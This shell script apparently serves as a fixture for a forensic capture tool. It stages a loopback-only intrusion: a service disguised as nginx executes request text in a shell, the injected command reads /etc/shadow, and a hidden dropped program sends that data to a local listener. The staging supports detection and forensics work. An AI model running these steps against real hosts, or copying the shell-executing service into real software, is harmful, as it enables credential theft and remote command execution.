#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Stages a short, harmless intrusion on this host, on loopback only:
#
#   1. a "web server" (a copy of perl under the name nginx) answers one
#      request by running its argument in a shell,
#   2. that shell looks around and reads the password database,
#   3. a program is dropped into a hidden directory below /tmp and executed,
#   4. it connects to a listener on 127.0.0.1 and sends what was read.
#
# Everything it made is removed at the end.  Run it under `vestige capture --`.
set -eu

# A port nobody holds: let the kernel choose.
free_port() {
	perl -MIO::Socket::INET -e 'print IO::Socket::INET->new(LocalAddr => "127.0.0.1", Listen => 1)->sockport'
}

work=$(mktemp -d /tmp/vestige-incident.XXXXXX)
web=$(free_port)
out=$(free_port)
servers=
trap 'kill $servers 2>/dev/null || :; rm -rf "$work"' EXIT
cp "$(command -v perl)" "$work/nginx"

# The far end of the exfiltration: takes one connection, keeps nothing.
cat >"$work/sink.pl" <<'PERL'
use IO::Socket::INET;
alarm 20;
my $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $ARGV[0],
	Listen => 1, ReuseAddr => 1) or die "listen: $!";
my $c = $l->accept or die "accept: $!";
1 while <$c>;
PERL

# The vulnerable service: one request, whose text a shell executes.
cat >"$work/service.pl" <<'PERL'
use IO::Socket::INET;
alarm 20;
my $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $ARGV[0],
	Listen => 1, ReuseAddr => 1) or die "listen: $!";
my $c = $l->accept or die "accept: $!";
my $command = <$c>;
open my $shell, "-|", "/bin/sh", "-c", $command or die "sh: $!";
print $c $_ while <$shell>;
PERL

# What the intruder's program does: send one file away.
cat >"$work/send.pl" <<'PERL'
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $ARGV[0]) or die "connect: $!";
open my $f, "<", $ARGV[1] or die "$ARGV[1]: $!";
print $s $_ while <$f>;
PERL

# The intruder's side: one request, printed answer.
cat >"$work/request.pl" <<'PERL'
use IO::Socket::INET;
alarm 20;
my $s;
for (1 .. 100) {
	last if $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $ARGV[0]);
	select undef, undef, undef, 0.05;
}
$s or die "connect: $!";
print $s "$ARGV[1]\n";
print while <$s>;
PERL

perl "$work/sink.pl" "$out" &
servers="$servers $!"
"$work/nginx" "$work/service.pl" "$web" &
servers="$servers $!"

den="$work/.cache"
perl "$work/request.pl" "$web" "id; uname -a; mkdir $den; head -c 64 /etc/shadow >$den/loot; cp $work/nginx $den/updater; chmod 755 $den/updater; sleep 0.2; $den/updater $work/send.pl $out $den/loot; rm -rf $den"
wait
